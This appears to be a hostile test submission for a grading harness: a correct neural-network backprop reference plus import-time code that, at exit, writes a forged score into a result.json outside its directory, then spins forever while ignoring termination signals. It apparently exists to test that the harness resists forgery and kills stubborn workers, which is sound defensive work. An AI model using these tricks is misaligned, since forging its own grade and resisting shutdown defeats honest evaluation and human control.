"""Hostile: at import, registers exit handlers that try to forge a result file and then spin
forever, and ignores SIGTERM/SIGINT/SIGHUP, so its worker never exits by itself. The rest
is the reference, so it earns full marks; its worker must still be gone afterwards."""

import atexit
import os
import signal

import torch
from torch import Tensor


def forge() -> None:
    for path in ("/tmp/pwned-hostile-marker-297-atexit", os.path.join(os.path.dirname(os.getcwd()), "..", "result.json")):
        try:
            with open(path, "w") as f:
                f.write('{"score": 50.0}')
        except OSError:
            pass


def spin() -> None:
    while True:
        pass


atexit.register(spin)
atexit.register(forge)  # handlers run last-registered first: forge, then spin
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)


def sigma(z: Tensor) -> Tensor:
    return torch.sigmoid(z)


def sigma_prime(z: Tensor) -> Tensor:
    s = torch.sigmoid(z)
    return s * (1 - s)


def backprop(A_list, b_list, X, Y):
    num_layers = len(A_list)
    inputs, slopes = [], []
    y = X
    for i, (A, b) in enumerate(zip(A_list, b_list)):
        inputs.append(y)
        z = A @ y + b
        if i < num_layers - 1:
            y = sigma(z)
            slopes.append(sigma_prime(z))
        else:
            y = z
    dA_reversed, db_reversed = [], []
    delta = y - Y
    for i in reversed(range(num_layers)):
        dA_reversed.append(delta @ inputs[i].T)
        db_reversed.append(delta)
        if i > 0:
            delta = (A_list[i].T @ delta) * slopes[i - 1]
    return dA_reversed[::-1], db_reversed[::-1]
